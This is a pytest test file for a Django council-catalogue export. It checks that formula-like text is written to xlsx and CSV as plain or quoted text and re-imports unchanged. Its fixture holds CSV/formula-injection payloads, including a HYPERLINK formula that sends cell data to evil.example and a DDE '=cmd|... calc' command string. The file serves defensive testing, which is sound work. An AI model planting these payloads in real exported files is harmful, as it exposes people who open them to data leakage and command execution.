"""No formulas out: catalogue text that starts like a formula is exported as text, and the
export still imports as "0 created, 0 updated"."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from civicdesk.catalogue.models import QueryType, Service
from civicdesk.councils.models import Council
from tests.factories import CouncilFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Click for help")'
CATALOGUE = f"""\
services:
  - {{code: waste, name: "@SUM(A1:A9)", description: '{HYPERLINK}'}}
portals:
  - {{code: my-account, name: My Account, url: "https://example.org/account"}}
query_types:
  - code: missed-bin
    service: waste
    name: "+1 bin missed"
    available_online: yes
    value_to: both
    contact_centre_actions: [encourage_online]
    contact_centre_guidance: '{HYPERLINK}'
    face_to_face_guidance: "-2 days to collect"
    vulnerable_guidance: "'=already quoted by hand"
    keywords: ["=cmd|' /C calc'!A0", bin]
    portal: my-account
    vulnerable_action: assist_now
"""
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture
def council(tmp_path: Path) -> Council:
    council = CouncilFactory.create(slug="formulas")
    path = tmp_path / "catalogue.yaml"
    path.write_text(CATALOGUE)
    call_command("import_catalogue", str(path), "--council", council.slug, stdout=StringIO())
    return council


def _export(council: Council, path: Path) -> Path:
    call_command("export_catalogue", "--council", council.slug, str(path), stdout=StringIO())
    return path


def _import(council: Council, path: Path) -> str:
    out = StringIO()
    call_command("import_catalogue", str(path), "--council", council.slug, stdout=out)
    return out.getvalue()


def test_the_workbook_holds_formula_like_text_as_text(council: Council, tmp_path: Path) -> None:
    workbook = load_workbook(_export(council, tmp_path / "catalogue.xlsx"))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    risky = {cell.value: cell.data_type for cell in cells if str(cell.value)[:1] in "=+-@"}
    assert risky == {
        "@SUM(A1:A9)": "s",
        HYPERLINK: "s",
        "+1 bin missed": "s",
        "-2 days to collect": "s",
        "=cmd|' /C calc'!A0; bin": "s",
    }


def test_the_csv_quotes_formula_like_text(council: Council, tmp_path: Path) -> None:
    path = _export(council, tmp_path / "query-types.csv")
    (row,) = csv.DictReader(path.open(encoding="utf-8"))
    assert row["name"] == "'+1 bin missed"
    assert row["contact_centre_guidance"] == "'" + HYPERLINK
    assert row["face_to_face_guidance"] == "'-2 days to collect"
    assert row["keywords"] == "'=cmd|' /C calc'!A0; bin"
    assert row["vulnerable_guidance"] == "''=already quoted by hand"
    assert not [value for value in row.values() if value[:1] in FORMULA_STARTS]


@pytest.mark.parametrize("name", ["catalogue.xlsx", "query-types.csv", "catalogue.yaml"])
def test_the_export_imports_as_no_change(council: Council, tmp_path: Path, name: str) -> None:
    out = _import(council, _export(council, tmp_path / name))
    assert "query_types: 0 created, 0 updated, 1 unchanged" in out
    if not name.endswith(".csv"):
        assert "services: 0 created, 0 updated, 1 unchanged" in out
    missed = QueryType.objects.get(council=council, code="missed-bin")
    assert (missed.name, missed.contact_centre_guidance) == ("+1 bin missed", HYPERLINK)
    assert missed.vulnerable_guidance == "'=already quoted by hand"
    assert missed.keywords == ["=cmd|' /C calc'!A0", "bin"]
    assert Service.objects.get(council=council, code="waste").description == HYPERLINK


def test_an_export_that_cannot_be_written_says_why(council: Council, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match=r"Cannot write .*no-such-folder"):
        _export(council, tmp_path / "no-such-folder" / "catalogue.xlsx")
    # Text saved before imports refused control characters (or typed in the admin).
    QueryType.objects.filter(council=council).update(face_to_face_guidance="Ring \x07 twice")
    with pytest.raises(CommandError, match=r"query_types row 2 \(missed-bin\): holds a control"):
        _export(council, tmp_path / "catalogue.xlsx")
